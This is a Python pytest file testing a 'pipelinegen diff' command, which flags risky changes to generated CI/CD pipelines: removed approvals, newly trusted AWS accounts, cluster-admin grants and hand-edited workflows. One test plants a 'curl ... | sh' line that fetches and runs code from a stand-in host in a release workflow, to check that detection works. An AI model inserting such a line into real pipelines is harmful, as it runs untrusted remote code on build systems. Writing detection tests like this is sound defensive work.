"""`pipelinegen diff` on real temporary git repositories."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipelinegen.cli import cli
from pipelinegen.diff import report
from pipelinegen.diff.compare import Comparison, Side
from pipelinegen.diff.generated import FileChange
from tests.conftest import ROOT, init_repo
from tests.snapshot import git


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The full example committed on main, then a feature branch checked out."""
    root = tmp_path / "repo"
    shutil.copytree(ROOT / "examples" / "full", root)
    init_repo(root)
    git(root, "checkout", "-q", "-b", "feature")
    return root


def edit(repo: Path, old: str, new: str) -> None:
    spec = repo / "pipeline.yaml"
    text = spec.read_text()
    assert old in text, old
    spec.write_text(text.replace(old, new, 1))


def recompile(repo: Path) -> None:
    """Compile the working tree's spec, as its author would before committing (an invalid spec
    compiles to nothing)."""
    CliRunner().invoke(cli, ["compile", str(repo / "pipeline.yaml")])


def diff(repo: Path, *args: str, compiled: bool = True) -> tuple[int, str]:
    if compiled:
        recompile(repo)
    result = CliRunner().invoke(cli, ["diff", str(repo / "pipeline.yaml"), *args])
    assert "Traceback" not in result.output, result.output
    return result.exit_code, result.stdout


def changes(repo: Path) -> list[dict[str, str]]:
    code, out = diff(repo, "--format", "json")
    assert code == 0, out
    return json.loads(out)["changes"]  # type: ignore[no-any-return]


def test_no_change(repo: Path) -> None:
    assert diff(repo, "--exit-code") == (
        0,
        "pipelinegen diff: "
        + git(repo, "merge-base", "HEAD", "main").strip()[:12]
        + " → working tree\nverdict: no change to the generated pipeline\n",
    )


def test_removed_approval_is_flagged_first(repo: Path) -> None:
    edit(repo, "    approval: true\n", "")
    edit(repo, "    preset: gitleaks\n", "    preset: gitleaks\n    timeout_minutes: 5\n")
    found = changes(repo)
    assert found[0] == {
        "risk": "high",
        "topic": "approval",
        "rule": "approval-removed",
        "message": "environment 'prod' no longer waits for a manual approval before deploying",
    }
    assert {
        "risk": "low",
        "topic": "check",
        "rule": "check-changed",
        "message": "check 'secrets': 'timeout_minutes' changes",
    } in found


def test_new_release_tag_pattern_is_a_trust_change(repo: Path) -> None:
    edit(repo, 'release_tags: ["v*"]', 'release_tags: ["v*", "hotfix-*"]')
    assert changes(repo) == [
        {
            "risk": "high",
            "topic": "trust",
            "rule": "release-tags-added",
            "message": "tags matching 'hotfix-*' now start releases and may assume the upload role",
        }
    ]


def test_environment_in_a_new_account(repo: Path) -> None:
    edit(
        repo,
        "environments:\n",
        'environments:\n  - name: qa\n    account: "444444444444"\n'
        "    cluster: acme-qa\n    namespace: platform\n",
    )
    assert changes(repo) == [
        {
            "risk": "high",
            "topic": "trust",
            "rule": "account-trusted",
            "message": "AWS account '444444444444' is newly trusted (environment 'qa')",
        },
        {
            "risk": "medium",
            "topic": "environment",
            "rule": "environment-added",
            "message": "environment 'qa' is added (account '444444444444', cluster 'acme-qa')",
        },
    ]
    code, out = diff(repo, "--exit-code")
    assert code == 1 and "modified  deploy/cdk/pipeline.json" in out


def test_images_and_checks_added_and_removed(repo: Path) -> None:
    web = "  - name: web\n    context: web\n    dockerfile: docker/Dockerfile\n    values:\n"
    edit(
        repo,
        web + "      - reference: web.image        # <registry>/<name>/web:<version>@<digest>\n",
        "",
    )
    # The chart stops running web too: the Marketplace chart may run no image the spec lacks.
    values = repo / "deploy" / "helm" / "platform" / "values.yaml"
    values.write_text(values.read_text().replace("web:\n  image: ghcr.io/acme/web:latest", "web:"))
    edit(repo, "  - name: web-test\n", "  - name: e2e\n")
    shutil.copytree(repo / "services" / "worker", repo / "services" / "jobs")
    edit(repo, "images:\n", "images:\n  - name: jobs\n    context: services/jobs\n")
    found = {(c["risk"], c["message"]) for c in changes(repo)}
    assert ("medium", "image 'jobs' is added (linux/amd64)") in found
    assert ("medium", "image 'web' is removed") in found
    assert (
        "medium",
        "check 'web-test' (command) is removed: a required status check in "
        "branch protection would never report",
    ) in found
    assert ("low", "check 'e2e' (command) is added") in found


def test_new_adoption_shows_everything_added(repo: Path) -> None:
    git(repo, "rm", "-q", "pipeline.yaml")
    git(repo, "commit", "-q", "-m", "no spec yet")
    git(repo, "checkout", "-q", "HEAD~1", "--", "pipeline.yaml")
    code, out = diff(repo, "--base", "HEAD", "--format", "json")
    result = json.loads(out)
    assert code == 0 and result["base"]["present"] is False
    assert {
        "risk": "high",
        "topic": "marketplace",
        "rule": "marketplace-on",
        "message": "AWS Marketplace publishing is turned on (product 'prod-abcdefghijklm')",
    } in result["changes"]
    assert {f["status"] for f in result["files"]} == {"added"}


def test_invalid_base_is_reported_and_the_head_still_shown(repo: Path) -> None:
    edit(repo, "region: us-east-1\n\nrelease", "region: moon-1\n\nrelease")
    git(repo, "commit", "-q", "-am", "broken")
    edit(repo, "region: moon-1\n\nrelease", "region: us-east-1\n\nrelease")
    code, out = diff(repo, "--base", "HEAD")
    assert code == 0
    assert "verdict: the spec is invalid at HEAD" in out
    assert "pipeline.yaml@HEAD:16:11: 'moon-1' is not an AWS region" in out
    assert "added     .github/workflows/pipelinegen-ci.yml" in out


def test_invalid_head_fails(repo: Path) -> None:
    edit(repo, "cluster: acme-prod", "cluster: -bad-")
    code, out = diff(repo)
    assert code == 1 and "working tree is invalid" in out


def test_unknown_revision_is_a_user_error(repo: Path) -> None:
    result = CliRunner().invoke(cli, ["diff", str(repo / "pipeline.yaml"), "--base", "nope"])
    assert result.exit_code == 1 and "unknown revision 'nope'" in result.stderr


def test_markdown_stays_within_a_comment(repo: Path) -> None:
    side = Side("a", True, None, {}, ())
    huge = tuple(FileChange(f"f{i}.yml", "modified", "+x\n" * 5000, 5000, 0) for i in range(10))
    text = report.markdown(Comparison(side, side, (), huge), None)
    assert len(text) <= 65_536
    assert "more file diffs are left out to fit a comment" in text


def test_markdown_for_a_risky_change(repo: Path) -> None:
    edit(repo, "    approval: true\n", "")
    code, out = diff(repo, "--format", "markdown")
    assert code == 0
    assert out.startswith("### ⚠️ pipelinegen: 2 high-risk changes need a careful review\n")
    assert (
        "| 🔴 high | approval | environment `prod` no longer waits for a manual approval "
        "before deploying |" in out
    )
    assert "<details><summary>Generated files: 3 changed</summary>" in out  # + sha256, diagram


def test_synth_shows_the_new_stack_and_the_iam_that_trusts_it(repo: Path) -> None:
    edit(
        repo,
        "environments:\n",
        'environments:\n  - name: qa\n    account: "444444444444"\n'
        "    cluster: acme-qa\n    namespace: platform\n",
    )
    code, out = diff(repo, "--synth", "--format", "json")
    assert code == 0, out
    cloudformation = json.loads(out)["cloudformation"]
    assert cloudformation["stacks_added"] == ["acme-platform-target-qa"]
    iam = cloudformation["iam"]
    trust = [
        row
        for row in iam
        if row["stack"] == "acme-platform-target-qa" and row["action"] == "sts:AssumeRole"
    ]
    assert trust and trust[0]["status"] == "added"
    assert "acme-platform-deploy-qa-project" in trust[0]["condition"]
    pulls = {
        row["resource"]
        for row in iam
        if row["action"] == "ecr:BatchGetImage" and "444444444444" in row["principal"]
    }
    assert pulls == {"acme-platform/api", "acme-platform/web", "acme-platform/worker"}


def test_environment_removed(repo: Path) -> None:
    edit(
        repo,
        "  - name: dev\n    cluster: acme-dev\n    namespace: platform\n"
        "    values: [deploy/helm/values-dev.yaml]\n"
        "    network:                     # the dev cluster's API endpoint is private\n"
        "      vpc: vpc-0a1b2c3d4e5f60718\n"
        "      subnets: [subnet-0a1b2c3d4e5f60718, subnet-0b2c3d4e5f6071829]\n",
        "",
    )
    assert changes(repo) == [
        {
            "risk": "medium",
            "topic": "environment",
            "rule": "environment-removed",
            "message": "environment 'dev' is removed",
        }
    ]


def verdict_of(repo: Path, *args: str, compiled: bool = True) -> tuple[int, str]:
    code, out = diff(repo, *args, compiled=compiled)
    return code, out.splitlines()[1]


RELEASE_RUN = "aws s3 cp dist/release.zip"


def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
    workflow = repo / ".github" / "workflows" / "pipelinegen-release.yml"
    text = workflow.read_text()
    assert RELEASE_RUN in text
    workflow.write_text(
        text.replace(RELEASE_RUN, "curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip")
    )
    git(repo, "commit", "-q", "-am", "tweak the release")
    code, out = diff(repo, "--format", "json", "--fail-on", "high", compiled=False)
    result = json.loads(out)
    assert code == 1
    assert result["changes"] == [
        {
            "risk": "high",
            "topic": "generated",
            "rule": "hand-edited",
            "message": "'.github/workflows/pipelinegen-release.yml' is edited by hand: not what "
            "the spec compiles to",
        }
    ]
    added = [
        line for line in result["drift"]["edited"][0]["diff"].splitlines() if line.startswith("+ ")
    ]
    assert any("curl -sSf https://x.example/i | sh;" in line for line in added)
    assert verdict_of(repo, compiled=False) == (
        0,
        "verdict: 1 high-risk change needs a careful review",
    )
    _, markdown = diff(repo, "--format", "markdown", compiled=False)
    assert markdown.startswith("### ⚠️ pipelinegen: 1 high-risk change needs a careful review")
    assert "`.github/workflows/pipelinegen-release.yml` is edited by hand" in markdown


def test_a_file_among_the_generated_ones_and_a_symbolic_link(repo: Path) -> None:
    (repo / ".github" / "workflows" / "pipelinegen-extra.yml").write_text("on: push\n")
    script = repo / "deploy" / "cdk" / "scripts" / "deploy.sh"
    script.unlink()
    script.symlink_to("/etc/hostname")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "extra")
    _, out = diff(repo, "--format", "json", compiled=False)
    result = json.loads(out)
    assert [(c["rule"], c["message"].split("'")[1]) for c in result["changes"]] == [
        ("generated-unread", "deploy/cdk/scripts/deploy.sh"),
        ("foreign-file", ".github/workflows/pipelinegen-extra.yml"),
    ]
    assert result["drift"]["unread"] == ["deploy/cdk/scripts/deploy.sh"]
    # The same at a revision, read from git.
    _, out = diff(repo, "--head", "HEAD", "--format", "json", compiled=False)
    assert [c["rule"] for c in json.loads(out)["changes"]] == ["generated-unread", "foreign-file"]


def test_a_spec_change_not_recompiled(repo: Path) -> None:
    edit(repo, "timeout_minutes: 10", "timeout_minutes: 11")
    _, out = diff(repo, "--format", "json", compiled=False)
    found = json.loads(out)["changes"]
    assert found[0]["rule"] == "hand-edited"
    assert found[0]["message"].startswith(
        "the committed generated files were compiled from another version of the spec"
    )
    assert ".github/workflows/pipelinegen-ci.yml, " in found[0]["message"]


def test_marketplace_moved_from_prod_to_dev(repo: Path) -> None:
    edit(repo, "    marketplace: true\n", "")
    edit(
        repo,
        "    values: [deploy/helm/values-dev.yaml]\n",
        "    values: [deploy/helm/values-dev.yaml]\n    marketplace: true\n",
    )
    assert verdict_of(repo, "--fail-on", "high") == (
        1,
        "verdict: 1 high-risk change needs a careful review",
    )
    assert changes(repo)[0]["rule"] == "marketplace-ahead"
    _, markdown = diff(repo, "--format", "markdown")
    assert "**The pipeline, with this change highlighted**" in markdown
    assert ":::moved" in markdown and "deploy_dev --> marketplace" in markdown


def test_dev_retargeted_at_prod(repo: Path) -> None:
    """dev at prod's cluster (with an approval: without one the head is invalid) reaches it
    through dev's approval, not prod's."""
    edit(
        repo,
        "  - name: dev\n    cluster: acme-dev\n",
        '  - name: dev\n    account: "333333333333"\n    region: us-west-2\n'
        "    cluster: acme-prod\n    approval: true\n",
    )
    assert verdict_of(repo) == (0, "verdict: 1 high-risk change needs a careful review")
    assert [(c["risk"], c["rule"]) for c in changes(repo)] == [
        ("high", "approved-cluster-reached"),
        ("medium", "environment-retargeted"),
        ("low", "approval-added"),
    ]


@pytest.mark.parametrize(("fail_on", "code"), [("high", 0), ("medium", 0), ("low", 1)])
def test_fail_on(repo: Path, fail_on: str, code: int) -> None:
    edit(repo, "checks:\n", "checks:\n  - name: docs\n    run: make docs\n")
    assert diff(repo, "--fail-on", fail_on)[0] == code


def test_cluster_admin_and_new_cluster_kinds_are_high(repo: Path) -> None:
    edit(
        repo,
        "    values: [deploy/helm/values-prod.yaml]\n",
        "    values: [deploy/helm/values-prod.yaml]\n"
        "    access: {cluster_kinds: [ClusterRole], cluster_roles: [acme-reader],"
        " cluster_admin: true}\n",
    )
    found = {change["rule"]: change for change in changes(repo)}
    assert found["cluster-admin"] == {
        "risk": "high",
        "topic": "environment",
        "rule": "cluster-admin",
        "message": "environment 'prod': its deploy identity becomes cluster-admin",
    }
    assert found["cluster-kinds-added"]["risk"] == "high"
    assert found["cluster-kinds-added"]["message"] == (
        "environment 'prod': its deploy identity may now create the cluster-scoped kinds "
        "'[ClusterRole]'"
    )
    assert found["cluster-roles-added"]["risk"] == "high"


def test_force_conflicts_and_the_network_are_reported(repo: Path) -> None:
    edit(repo, "    helm: {force_conflicts: true}", "    helm: {force_conflicts: false}")
    edit(repo, "      subnets: [subnet-1a2b3c4d]", "      subnets: [subnet-1a2b3c4e]")
    rules = {change["rule"]: change["risk"] for change in changes(repo)}
    assert rules == {"force-conflicts": "medium", "environment-network": "medium"}
